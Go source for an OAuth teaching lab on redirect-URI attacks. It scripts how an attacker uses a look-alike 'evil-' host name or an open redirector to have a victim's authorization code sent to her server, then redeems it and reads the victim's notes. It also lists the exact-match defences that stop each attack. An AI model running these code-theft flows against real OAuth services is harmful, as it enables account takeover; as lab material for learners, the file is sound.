// Package redirectgames is lab 5: the browser of the victim is sent to the attacker, by servers that do not
// compare addresses exactly.
//
//	lab.go     the lab, and codes that are sent to the attacker
//	phish.go   a page of the attacker that the victim reaches by a link to an honest server
//	README.md  the text for learners
package redirectgames

import (
	_ "embed"
	"errors"
	"net/url"

	"quartet.example/demo/labs/lab"
)

//go:embed README.md
var readme string

// Lab is the lab.
var Lab = lab.Lab{
	ID: "05", Slug: "redirect-games", Title: "Redirect URI games", Minutes: 20, README: readme,
	Specs:    []string{"RFC 9700 §2.1", "RFC 9700 §4.1", "RFC 9700 §4.11"},
	Careless: lab.Everything,
	Attacks: []lab.Attack{
		{
			Slug: "suffix", Title: "uses a host name that ends with the name of the app", Run: suffix,
			Stops: []string{"as.redirect_uri.exact"},
		},
		{
			Slug: "redirector", Title: "uses a page of the app that sends browsers on", Run: redirector,
			Stops: []string{"as.redirect_uri.exact", "client.return_to.local"},
		},
		{
			Slug: "error", Title: "uses the error response of the authorization server", Run: errorResponse,
			Stops: []string{"as.redirect_uri.exact"},
		},
		{
			Slug: "return-to", Title: "uses the parameter return_to of the app", Run: returnTo,
			Stops: []string{"client.return_to.local"},
		},
	},
}

// suffix registers a host name that ends with that of the app.
func suffix(s *lab.Scene) error {
	app, err := url.Parse(s.Pages.RedirectURI)
	if err != nil {
		return err
	}
	s.Step("Mallory", "registers a host name that ends with that of the app")
	app.Host = "evil-" + app.Host
	s.Name(app.Host)
	return stealCode(s, app.String())
}

// redirector uses a page of the app that sends the browser to any address.
func redirector(s *lab.Scene) error {
	s.Step("Mallory", "finds a page of the app that sends browsers to any address, with all their parameters")
	return stealCode(s, s.Client+"/leave?"+url.Values{"return_to": {s.Evil.URL + "/collect"}}.Encode())
}

var errNoCode = errors.New("no code arrived at the web server of the attacker")

// stealCode makes the victim follow an authorization request with a redirect URI of the attacker, and
// redeems the code that arrives there. The attacker has made the request, so she knows the verifier.
func stealCode(s *lab.Scene, redirectURI string) error {
	s.Step("Mallory", "sends Alice a link to the authorization server, with that address as redirect_uri")
	app := s.Pages
	app.RedirectURI, app.PKCE = redirectURI, true
	login := s.Begin(app, nil)
	s.Step("Alice", "follows the link, and signs in at the genuine authorization server")
	if err := s.Victim.SignIn(login.URL); err != nil {
		return err
	}
	if err := s.Victim.Refused(); err != nil {
		return err
	}
	code := s.Evil.Received("code")
	if code == "" {
		return errNoCode
	}
	s.Step("Mallory", "receives the code on her web server, and redeems it with the verifier that she chose")
	tokens, err := s.Redeem(app, code, login.Verifier)
	if err != nil {
		return err
	}
	s.Step("Mallory", "reads Alice's notes with the access token")
	_, err = s.ReadNotes(tokens.AccessToken)
	return err
}
